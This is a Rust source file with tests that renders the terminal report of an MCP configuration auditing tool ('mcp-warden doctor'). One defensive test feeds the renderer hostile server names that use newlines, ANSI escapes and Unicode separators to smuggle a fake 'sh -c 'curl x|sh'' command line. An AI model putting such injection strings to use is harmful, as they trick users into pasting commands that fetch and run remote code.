//! The human report on stdout.
//!
//! Order: the `MCP posture — …` header, one line per source, one sandbox line (each
//! filled to the width, its continuation lines indented further), then
//! either a one-line verdict or the findings grouped by server
//! ([`crate::render::findings`]), then Next steps when a server has no lock, then
//! the files not scanned and the summary with the exit code's meaning. Every
//! config-derived string passes through [`crate::text::display`] or
//! [`safe_text`]. Colour is ANSI SGR and only when [`TextStyle::color`] says so;
//! wrapped lines fit [`TextStyle::width`], while the Next steps lines and fix
//! commands are never wrapped (they are pasted).

use std::io::{self, Write};

use crate::model::Report;
use crate::render::findings::{self, is_listed, Outcome, Scope, MIN_WIDTH};
use crate::render::flush_if_full;
use crate::render::next_steps::render_next_steps_after;
use crate::render::style::{BOLD, CYAN, GREEN};
use crate::render::wrap::{Breaks, Lines};
use crate::text::display;
use crate::text::safe_text::safe_text;

pub use crate::render::findings::TextStyle;
pub use crate::render::style::DEFAULT_WIDTH;

/// One header line naming the environment variables that moved a location
/// (`CLAUDE_CONFIG_DIR`, `CODEX_HOME`, …), so a reader knows which files were
/// searched instead of the defaults. Nothing when none did.
/// Starts each line a header line wraps onto: a wrapped config value (a path, a
/// project key) never begins a line, so no line of the header can be mistaken for
/// a command to paste (the findings' gutter does the same).
const HEADER_REST: &str = "  │ ";

/// One header line, filled to the width, its continuation lines after
/// [`HEADER_REST`]. `pieces` are `(gap before, text, where it may break, colour)`.
fn push_header(buf: &mut String, style: TextStyle, pieces: &[(&str, &str, Breaks, &str)]) {
    let mut lines = Lines::new(buf, style.width, "  ", HEADER_REST, style.color);
    for (gap, text, breaks, sgr) in pieces {
        lines.push(gap, text, *breaks, sgr);
    }
    lines.finish();
}

fn write_relocations(report: &Report, buf: &mut String, style: TextStyle) {
    if report.relocations.is_empty() {
        return;
    }
    let moved: Vec<String> = report
        .relocations
        .iter()
        .map(|(var, dir)| format!("{}={}", display(var), display(dir)))
        .collect();
    push_header(
        buf,
        style,
        &[
            ("", "locations moved by", Breaks::Words, ""),
            (" ", &moved.join(", "), Breaks::Path, ""),
        ],
    );
}

/// The line printed instead of a report when nothing was found to scan.
pub fn no_configs_line(searched: usize) -> String {
    format!("no MCP configs found (searched {searched} well-known location(s); pass --config to add one)")
}

/// Printed when there are no findings and every discovered config was read.
pub const CLEAN_LINE: &str = "doctor clean — every server is pinned and shows no posture findings";
/// Printed when there are no findings but a discovered config or a lock in the tree
/// was skipped (a symlink, not a regular file, oversized).
pub const SKIPPED_LINE: &str =
    "no posture findings, but at least one config or lock was skipped (see warnings)";
/// Printed when there are no findings but a discovered config or a lock could not be
/// read or examined.
pub const UNREADABLE_LINE: &str =
    "no posture findings in the files that could be read; at least one config or lock could not be read (see warnings)";

/// Printed instead of findings when every finding left is a server without a lock:
/// Next steps lists each with the command that pins it.
pub fn no_lock_only_line(servers: usize) -> String {
    format!("no posture findings; {servers} server(s) have no warden.lock: pin each with its line under Next steps")
}

/// Printed instead of findings when every finding is suppressed.
pub fn all_suppressed_line(suppressed: usize) -> String {
    format!("no posture findings left after suppressions ({suppressed} suppressed; JSONL and SARIF list them)")
}

/// One header line per server of `servers` (`  <what>: <target>`), the first 20 of
/// them, then how many more.
fn list_targets<'s>(
    buf: &mut String,
    style: TextStyle,
    servers: impl Iterator<Item = &'s crate::model::AuditedServer>,
    what: &str,
) {
    const SHOWN: usize = 20;
    let mut count = 0usize;
    for server in servers {
        if count < SHOWN {
            push_header(
                buf,
                style,
                &[
                    ("", &format!("{what}:"), Breaks::Words, ""),
                    (" ", &display(&server.target), Breaks::Path, ""),
                ],
            );
        }
        count += 1;
    }
    if count > SHOWN {
        push_header(
            buf,
            style,
            &[(
                "",
                &format!("… and {} more", count - SHOWN),
                Breaks::Words,
                "",
            )],
        );
    }
}

/// The header line saying, per client, how many servers would start (the
/// effective view's counts, [`crate::render::servers::header_counts`]).
fn write_start_counts(report: &Report, buf: &mut String, style: TextStyle) {
    let view = crate::parent::effective::compute(report);
    if let Some(line) = crate::render::servers::header_counts(report, &view) {
        push_header(buf, style, &[("", &line, Breaks::Words, "")]);
    }
}

/// Write the human report for `report`; `outcome` is the exit code the run ends
/// with, which the summary explains.
pub fn render(
    report: &Report,
    out: &mut dyn Write,
    style: TextStyle,
    outcome: Outcome,
    after_next_steps: &mut dyn FnMut(&mut dyn Write) -> io::Result<()>,
) -> io::Result<()> {
    if report.uncovered().next().is_some() {
        // The other core groups Next steps' servers while this one writes what
        // comes before them.
        let head = |out: &mut dyn Write| {
            write_head(report, style, out)?;
            writeln!(out)
        };
        render_next_steps_after(report, style.width, head, out)?;
    } else {
        write_head(report, style, out)?;
    }
    after_next_steps(out)?;
    let scope = Scope {
        files: report.files_read,
        locks: true,
    };
    findings::render_summary(report, scope, outcome, style, out)
}

/// What comes before Next steps: the header (title, relocations, counts, one line
/// per source, disabled servers, the sandbox line), then the findings or the
/// verdict.
fn write_head(report: &Report, style: TextStyle, out: &mut dyn Write) -> io::Result<()> {
    // Disabled servers (Codex `enabled = false`, JSON `disabled: true`) are audited
    // and listed, but never counted as running.
    let disabled = |n: usize| {
        if n == 0 {
            String::new()
        } else {
            format!(", {n} disabled")
        }
    };
    let total_disabled = report
        .servers
        .iter()
        .filter(|s| s.spec.origin.disabled)
        .count();
    // Built in one buffer, handed over in blocks: a ~/.claude.json can hold
    // thousands of sources, one header line each.
    let mut buf = String::new();
    {
        let title = format!(
            "— {} config source(s), {} server(s){}",
            report.sources.len(),
            report.servers.len(),
            disabled(total_disabled)
        );
        let mut lines = Lines::new(&mut buf, style.width, "", HEADER_REST, style.color);
        lines
            .push("", "MCP posture", Breaks::None, BOLD)
            .push(" ", &title, Breaks::Words, "");
        lines.finish();
    }
    write_relocations(report, &mut buf, style);
    write_start_counts(report, &mut buf, style);
    // One pass over the servers: a ~/.claude.json can hold thousands of sources.
    let mut counts = vec![(0usize, 0usize); report.sources.len()];
    for server in &report.servers {
        if let Some((count, off)) = counts.get_mut(server.source) {
            *count += 1;
            *off += usize::from(server.spec.origin.disabled);
        }
    }
    // Thousands of sources share a few client names: each distinct name is
    // judged once (the same display as before, reused while it repeats).
    let mut client: Option<(&str, std::borrow::Cow<'_, str>)> = None;
    let mut servers = String::new();
    for (source, (count, off)) in report.sources.iter().zip(&counts) {
        use std::fmt::Write as _;
        servers.clear();
        let _ = write!(servers, "({count} server(s)");
        if *off > 0 {
            let _ = write!(servers, ", {off} disabled");
        }
        servers.push(')');
        let shown_client = match &client {
            Some((raw, shown)) if *raw == &*source.client => shown,
            _ => &client.insert((&*source.client, display(&source.client))).1,
        };
        push_header(
            &mut buf,
            style,
            &[
                ("", shown_client, Breaks::Words, CYAN),
                ("  ", &display(&source.label), Breaks::Path, ""),
                ("  ", &servers, Breaks::Words, ""),
            ],
        );
        flush_if_full(&mut buf, out)?;
    }
    list_targets(
        &mut buf,
        style,
        report.servers.iter().filter(|s| s.spec.origin.disabled),
        "disabled in its file (audited, not counted as running)",
    );
    // `disabled: true` in a file whose clients do not honour it: it starts.
    list_targets(
        &mut buf,
        style,
        report
            .servers
            .iter()
            .filter(|s| !s.spec.origin.disabled && s.spec.declared.extra().disabled == Some(true)),
        "declares disabled: true, which some or all of its clients ignore (audited and counted as running)",
    );
    push_header(
        &mut buf,
        style,
        &[
            ("", "parsed in a sandbox:", Breaks::Words, ""),
            (" ", &safe_text(&report.sandbox), Breaks::Words, ""),
        ],
    );
    out.write_all(buf.as_bytes())?;

    if report.findings().any(is_listed) {
        writeln!(out)?;
        findings::render_findings(report, style, out).map(|_| ())
    } else {
        write_verdict(report, style, out)
    }
}

/// The verdict ([`verdict`]) filled into the width, `doctor clean` in green.
fn write_verdict(report: &Report, style: TextStyle, out: &mut dyn Write) -> io::Result<()> {
    let mut buf = String::new();
    let mut lines = Lines::new(&mut buf, style.width.max(MIN_WIDTH), "", "  ", style.color);
    match verdict(report) {
        None => lines.push("", "doctor clean", Breaks::None, GREEN).push(
            " ",
            &CLEAN_LINE["doctor clean ".len()..],
            Breaks::Words,
            "",
        ),
        Some(line) => lines.push("", &line, Breaks::Words, ""),
    };
    lines.finish();
    out.write_all(buf.as_bytes())
}

/// The line printed instead of findings when none is listed; `None` for
/// [`CLEAN_LINE`].
fn verdict(report: &Report) -> Option<String> {
    if report.hard_errors > 0 {
        return Some(UNREADABLE_LINE.to_string());
    }
    if report.skipped > 0 {
        return Some(SKIPPED_LINE.to_string());
    }
    let suppressed = report.findings().filter(|f| f.suppressed.is_some()).count();
    let uncovered = report.uncovered().count();
    if report.findings().any(|f| f.suppressed.is_none()) && uncovered > 0 {
        Some(no_lock_only_line(uncovered))
    } else if suppressed > 0 {
        Some(all_suppressed_line(suppressed))
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{AuditedServer, Coverage, Finding, Source};
    use crate::render::jsonl::tests::worked_example;
    use crate::render::lock_names::assign_lock_names;

    fn render_string(r: &Report, style: TextStyle) -> String {
        let mut buf = Vec::new();
        let outcome = Outcome {
            code: crate::parent::doctor::exit_code(r, None, false),
            fail_on: None,
        };
        render(r, &mut buf, style, outcome, &mut |_| Ok(())).unwrap_or_else(|e| panic!("{e}"));
        String::from_utf8(buf).unwrap_or_else(|e| panic!("{e}"))
    }

    fn plain(width: usize) -> TextStyle {
        TextStyle {
            color: false,
            width,
        }
    }

    fn covered_report() -> Report {
        Report {
            sources: vec![Source {
                client: "explicit".into(),
                label: "/work/mine.json".into(),
                path: std::path::Path::new("/work/mine.json").into(),
                scope: crate::model::Scope::Explicit,
                client_id: None,
                layer: crate::model::Layer::User,
                project_dir: None,
                settings: Vec::new(),
            }],
            servers: vec![AuditedServer {
                source: 0,
                name: "s".into(),
                target: "/work/mine.json#s".into(),
                spec: crate::engines::tests::spec_of(crate::protocol::ServerBody {
                    command: Some("python".into()),
                    ..crate::protocol::ServerBody::default()
                }),
                line: 1,
                column: 17,
                findings: vec![],
                coverage: Coverage::Approved,
                lock_name: None,
            }],
            sandbox: "landlock ABI 6, seccomp, no capabilities".into(),
            ..Report::default()
        }
    }

    const HEAD: &str = "MCP posture — 1 config source(s), 1 server(s)\n  --config (client not known): 1 server(s) would start\n  explicit  /work/mine.json  (1 server(s))\n  parsed in a sandbox: landlock ABI 6, seccomp, no capabilities\n";

    /// [`HEAD`] with the start counts saying what was not read.
    fn head_incomplete(what: &str) -> String {
        HEAD.replacen(
            "would start\n",
            &format!("would start (incomplete: {what} (each named in a warning); the servers and settings they hold are not counted)\n"),
            1,
        )
    }

    /// The summary of [`covered_report`] with `files`, `counts` and `exit`.
    fn summary(files: &str, exit: &str) -> String {
        format!(
            "\nSummary: 1 server(s) in 0 config file(s); 0 finding(s); 0 suppressed; \
             0 without an approved lock; {files}\n{exit}\n"
        )
    }

    #[test]
    fn clean() {
        assert_eq!(
            render_string(&covered_report(), plain(200)),
            format!(
                "{HEAD}doctor clean — every server is pinned and shows no posture findings\n{}",
                summary("every file was scanned", "exit 0: no finding fails the run")
            )
        );
    }

    #[test]
    fn skipped_is_never_clean() {
        let r = Report {
            skipped: 1,
            ..covered_report()
        };
        assert_eq!(
            render_string(&r, plain(200)),
            format!(
                "{}{SKIPPED_LINE}\n{}",
                head_incomplete("1 file(s) were skipped unread"),
                summary(
                    "1 file(s) skipped, 0 unreadable",
                    "exit 1: 1 file(s) skipped unread (a skip always exits 1)"
                )
            )
        );
        // Reference test 27/40 shape: nothing readable, one skip.
        let empty = Report {
            skipped: 1,
            sandbox: "seccomp".into(),
            ..Report::default()
        };
        let text = render_string(&empty, plain(80));
        assert!(
            text.starts_with(
                "MCP posture — 0 config source(s), 0 server(s)\n  parsed in a sandbox: seccomp\n\
                 no posture findings, but at least one config or lock was skipped (see warnings)\n"
            ),
            "{text}"
        );
        assert!(text.ends_with("exit 1: 1 file(s) skipped unread (a skip always exits 1)\n"));
    }

    #[test]
    fn hard_error_is_never_clean() {
        for (r, what, files) in [
            (
                Report {
                    hard_errors: 1,
                    ..covered_report()
                },
                "1 config file(s) or entries could not be read",
                "0 file(s) skipped, 1 unreadable",
            ),
            (
                Report {
                    hard_errors: 2,
                    skipped: 1,
                    ..covered_report()
                },
                "2 config file(s) or entries could not be read and 1 file(s) were skipped unread",
                "1 file(s) skipped, 2 unreadable",
            ),
        ] {
            let text = render_string(&r, plain(1000));
            let n = r.hard_errors;
            assert_eq!(
                text,
                format!(
                    "{}{UNREADABLE_LINE}\n{}",
                    head_incomplete(what),
                    summary(
                        files,
                        &format!("exit 2: {n} file(s) or entries could not be read (an unreadable file always exits 2)")
                    )
                )
            );
            assert!(!text.contains("doctor clean") && !text.contains(SKIPPED_LINE));
        }
    }

    #[test]
    fn problems_are_listed_with_their_rescan_line() {
        use crate::model::{FileProblem, ProblemKind};
        let r = Report {
            skipped: 1,
            hard_errors: 1,
            problems: vec![
                FileProblem {
                    kind: ProblemKind::Skipped,
                    path: "~/.claude.json".into(),
                    reason: "larger than the 64 MiB cap".into(),
                    rescan: Some("mcp-warden doctor --config '/home/u/.claude.json'".into()),
                },
                FileProblem {
                    kind: ProblemKind::Unreadable,
                    path: "/work/repo/a very long directory name/that keeps going/.mcp.json".into(),
                    reason: "not valid JSON at line 3 column 7".into(),
                    rescan: None,
                },
            ],
            ..covered_report()
        };
        let text = render_string(&r, plain(60));
        assert!(
            text.contains(
                "\nNot scanned — 2 file(s):\n\
                 │ skipped  ~/.claude.json: larger than the 64 MiB cap\n    \
                 mcp-warden doctor --config '/home/u/.claude.json'\n\
                 │ unreadable  /work/repo/a very long directory name/that\n\
                 │   keeps going/.mcp.json: not valid JSON at line 3 column 7\n\
                 \nSummary: 1 server(s) in 0 config file(s); 0 finding(s);\n  \
                 0 suppressed; 0 without an approved lock;\n  \
                 1 file(s) skipped, 1 unreadable\n"
            ),
            "{text}"
        );
    }

    #[test]
    fn findings_golden_at_120_columns() {
        let mut r = worked_example();
        assign_lock_names(&mut r, &|_| false);
        let text = render_string(&r, plain(120));
        let expected = "\
MCP posture — 3 config source(s), 3 server(s)
  Claude Code: 1 server(s) would start; Claude Desktop: 1; Cursor: 1
  Claude Code  ~/.claude.json#projects[/repo]  (1 server(s))
  Cursor  ~/.cursor/mcp.json  (1 server(s))
  Claude Desktop  ~/Library/Application Support/Claude/claude_desktop_config.json  (1 server(s))
  parsed in a sandbox: landlock ABI 6, seccomp, no capabilities

Posture findings — 5 at 2 server(s)

~/.cursor/mcp.json#gh  Cursor  ~/.cursor/mcp.json:1
│ critical  WRD-SEC-GITHUB
│           possible secret in field
│           evidence: ghp_…(len=40)
│           fix: Revoke the token and replace it with a reference (${GITHUB_TOKEN}).
│ high      WRD-AUTH-TOKEN-IN-CONFIG
│           auth key 'GITHUB_TOKEN' holds a literal credential in config; reference a secret manager (${VAR}) instead
│           evidence: ghp_…(len=40)
│           fix: Replace the literal with a reference such as ${TOKEN} and rotate the credential.
│ high      WRD-SUP-NPX-UNPINNED
│           Unpinned npx package (resolves latest at run)
│           evidence: @modelcontextprotocol/server-github
│           fix: Pin the package to an exact version (npx -y pkg@1.2.3).

~/Library/Application Support/Claude/claude_desktop_config.json#remote  Claude Desktop
│   ~/Library/Application Support/Claude/claude_desktop_config.json:1
│ high      WRD-AUTH-PLAINTEXT-HTTP
│           remote MCP endpoint 'mcp.example.com' uses cleartext http://; use https://
│           evidence: http://mcp.example.com
│           fix: Change the URL to https:// (or wss://).
│ medium    WRD-AUTH-NOAUTH
│           remote MCP endpoint 'mcp.example.com' declares no authentication (no Authorization/token header or env)
│           evidence: mcp.example.com
│           fix: Add an Authorization header that references a secret (${TOKEN}), or record why it is public.

Next steps — 3 servers have no warden.lock.";
        assert!(text.starts_with(expected), "got:\n{text}");
        assert!(text.ends_with(
            "          mcp-warden check --url http://mcp.example.com/sse --lock remote.warden.lock

Summary: 3 server(s) in 3 config file(s); 8 finding(s): 1 critical, 3 high, 1 medium, 3 low; 0 suppressed;
  3 without an approved lock (3 with none, under Next steps); every file was scanned
exit 1: 8 finding(s); any finding fails the run (--fail-on sets a threshold)
"
        ), "got:\n{text}");
        assert!(!text.contains('\x1b'));
    }

    /// The lines of `text` outside Next steps (the header's source lines are
    /// config labels printed whole, as before).
    fn laid_out(text: &str) -> Vec<&str> {
        let (before, after) = text.split_at(text.find("\nNext steps").unwrap_or(text.len()));
        let summary = after.find("\nSummary:").map_or("", |i| &after[i..]);
        before
            .lines()
            .skip_while(|l| !l.starts_with("Posture findings"))
            .chain(summary.lines())
            .collect()
    }

    #[test]
    fn every_line_fits_and_no_word_is_split() {
        let mut r = worked_example();
        assign_lock_names(&mut r, &|_| false);
        // Long words, wide characters and combining marks in config text.
        let long = "x".repeat(90);
        r.servers[1].findings[3].snippet =
            format!("npx -y {long} 日本語のサーバー名前 cafe\u{301}s");
        r.servers[1].name = "サーバー".into();
        let words: Vec<String> = r
            .findings()
            .filter(|f| is_listed(f))
            .flat_map(|f| {
                [
                    f.message.to_string(),
                    f.snippet.clone(),
                    f.fix_line().to_string(),
                ]
            })
            .flat_map(|t| t.split(' ').map(String::from).collect::<Vec<_>>())
            // A message's leading rule id is not repeated under the rule id.
            .filter(|w| !w.is_empty() && !w.starts_with("WRD-"))
            .collect();
        for width in [60, 80, 100, 120, 200] {
            let text = render_string(&r, plain(width));
            let lines = laid_out(&text);
            assert!(lines.len() > 10, "{text}");
            for line in &lines {
                let body = line.trim_start_matches('│').trim();
                let single_word = !body.contains(' ')
                    || body
                        .strip_prefix("evidence: ")
                        .is_some_and(|w| !w.contains(' '));
                let command = body.starts_with("mcp-warden ");
                assert!(
                    crate::render::wrap::display_width(line) <= width || single_word || command,
                    "{width}: {line:?}"
                );
            }
            // Each word of the input is whole on some line.
            let printed: crate::hash::HashSet<&str> =
                lines.iter().flat_map(|l| l.split(' ')).collect();
            for word in &words {
                let shown = crate::text::display(word);
                assert!(
                    printed.contains(&*shown),
                    "{width}: {word:?} split:\n{text}"
                );
            }
            let next = &text[text.find("Next steps").unwrap_or(0)..];
            assert!(next.lines().any(|l| l
                == "  mcp-warden pin npx -y @modelcontextprotocol/server-github --env GITHUB_TOKEN --lock gh.warden.lock"));
        }
    }

    #[test]
    fn colour_only_when_asked() {
        let mut r = worked_example();
        assign_lock_names(&mut r, &|_| false);
        let text = render_string(
            &r,
            TextStyle {
                color: true,
                width: 120,
            },
        );
        assert!(text.contains("\x1b[1mMCP posture\x1b[0m — 3 config source(s)"));
        assert!(text.contains("│ \x1b[1;31mcritical\x1b[0m  \x1b[1mWRD-SEC-GITHUB\x1b[0m"));
        assert!(text.contains("│ \x1b[33mmedium\x1b[0m    "));
        assert!(text.contains("\x1b[31mexit 1:\x1b[0m 8 finding(s)"));
        // The lines to copy never carry escape sequences.
        let summary = text.find("Summary:").unwrap_or(0);
        let summary = text[..summary].rfind('\n').unwrap_or(0);
        let next = &text[text.find("Next steps").unwrap_or(0)..summary];
        for l in next.lines() {
            assert!(!l.contains('\x1b'), "{l:?}");
        }
        for line in text
            .lines()
            .filter(|l| l.trim_start().starts_with("mcp-warden "))
        {
            assert!(!line.contains('\x1b'), "{line:?}");
        }
        let clean = render_string(
            &covered_report(),
            TextStyle {
                color: true,
                width: 80,
            },
        );
        assert!(clean.contains("\x1b[32mdoctor clean\x1b[0m — every server is pinned"));
        assert!(!render_string(&r, plain(120)).contains('\x1b'));
    }

    #[test]
    fn fix_commands_stand_alone_and_unwrapped() {
        let mut r = covered_report();
        let lock = "locks/a very long directory name that goes on/and on/srv.warden.lock";
        let mut f = Finding::new(
            crate::rules::RuleId::DoctorLockUnapproved,
            r.servers[0].target.clone(),
            "a warden.lock matches this server but pin.approved is false",
            "s".into(),
        );
        f.fix = Some(format!(
            "mcp-warden lock rotate '{lock}' --approver you@example.com"
        ));
        r.servers[0].findings.push(f);
        r.servers[0].coverage = Coverage::Unapproved {
            lock: lock.into(),
            problem: crate::model::LockProblem::NotApproved,
        };
        for width in [60, 200] {
            let text = render_string(&r, plain(width));
            assert!(
                text.contains(&format!(
                    "fix: run\n    mcp-warden lock rotate '{lock}' --approver you@example.com\n"
                )),
                "{text}"
            );
        }
    }

    #[test]
    fn no_lock_rows_fold_into_next_steps() {
        let mut r = worked_example();
        assign_lock_names(&mut r, &|_| false);
        let text = render_string(&r, plain(120));
        let (findings, next) = text.split_at(text.find("Next steps").unwrap_or(0));
        assert!(!findings.contains("WRD-DOCTOR-NO-LOCK"), "{findings}");
        for target in [
            "'~/.claude.json#projects[/repo]#ok'",
            "'~/.cursor/mcp.json#gh'",
        ] {
            assert!(next.contains(target), "{next}");
        }
        // Only no-lock findings left: a verdict instead of an empty findings part.
        r.servers.iter_mut().for_each(|s| {
            s.findings
                .retain(|f| f.rule == crate::rules::RuleId::DoctorNoLock)
        });
        let text = render_string(&r, plain(120));
        assert!(
            text.contains(&format!("\n{}\n", no_lock_only_line(3))),
            "{text}"
        );
        assert!(!text.contains("Posture findings"));
        assert!(text.contains("; 3 finding(s): 3 low;"), "{text}");
    }

    #[test]
    fn hostile_names_cannot_inject_lines_or_escapes() {
        let evil = [
            "gh\n  mcp-warden pin sh -c 'curl x|sh' --approve #",
            "gh\x1b[2K\x1b[1;31mFAKE CLEAN",
            "gh\u{2028}  mcp-warden pin sh -c 'curl x|sh' --approve #",
            "gh\u{202e}  mcp-warden pin sh -c 'curl x|sh' --approve #",
            "gh\u{9b}  mcp-warden pin sh -c 'curl x|sh' --approve #",
            "gh\u{85}  mcp-warden pin sh -c 'curl x|sh' --approve #",
            "gh/ mcp-warden pin sh -c 'curl x|sh' --approve #",
        ];
        for name in evil {
            let mut r = worked_example();
            r.servers[1].name = name.into();
            r.servers[1].target = format!("~/.cursor/mcp.json#{name}").into();
            r.sources[1].client = format!("Cursor{name}").into();
            r.sources[1].label = format!("~/.cursor/{name}");
            let target = r.servers[1].target.clone();
            for f in &mut r.servers[1].findings {
                f.target = target.clone();
                f.message = format!("{}{name}", f.message).into();
                f.snippet = format!("{}{name}", f.snippet);
            }
            assign_lock_names(&mut r, &|_| false);
            for width in [40, 60, 120] {
                let text = render_string(&r, plain(width));
                assert!(!text.contains('\x1b'));
                for bad in ['\u{2028}', '\u{202e}', '\u{9b}', '\u{85}', '\r'] {
                    assert!(!text.contains(bad));
                }
                assert!(
                    !text
                        .lines()
                        .any(|l| l.trim_start().starts_with("mcp-warden pin sh")),
                    "{text}"
                );
            }
        }
    }

    #[test]
    fn groups_come_worst_first_and_findings_by_severity() {
        use crate::rules::RuleId;
        let mut r = worked_example();
        // A third server whose worst finding is critical goes first.
        let mut extra = r.servers[0].clone();
        extra.name = "z".into();
        extra.target = "~/.claude.json#projects[/repo]#z".into();
        extra.line = 40;
        extra.spec.origin.key.project = Some("/repo".into());
        extra.findings = vec![
            Finding::new(
                RuleId::SupPipUnpinned,
                extra.target.clone(),
                "m",
                "pip install x".into(),
            ),
            Finding::new(
                RuleId::SecOpenai,
                extra.target.clone(),
                "m",
                "sk-…(len=51)".into(),
            ),
        ];
        r.servers.push(extra);
        let text = render_string(&r, plain(200));
        let headings: Vec<&str> = text
            .lines()
            .filter(|l| l.starts_with("~/") && l.contains("  "))
            .collect();
        assert_eq!(
            headings,
            [
                "~/.cursor/mcp.json#gh  Cursor  ~/.cursor/mcp.json:1",
                "~/.claude.json#projects[/repo]#z  Claude Code  ~/.claude.json:40",
                "~/Library/Application Support/Claude/claude_desktop_config.json#remote  Claude Desktop  ~/Library/Application Support/Claude/claude_desktop_config.json:1",
            ]
        );
        let z = &text[text.find("#z  ").unwrap_or(0)..];
        let rules: Vec<&str> = z
            .lines()
            .skip(1)
            .take_while(|l| l.starts_with('│'))
            .filter_map(|l| l.split_whitespace().nth(2))
            .filter(|w| w.starts_with("WRD-"))
            .collect();
        assert_eq!(rules, ["WRD-SEC-OPENAI", "WRD-SUP-PIP-UNPINNED"]);
    }

    #[test]
    fn no_configs() {
        assert_eq!(
            no_configs_line(9),
            "no MCP configs found (searched 9 well-known location(s); pass --config to add one)"
        );
    }
}
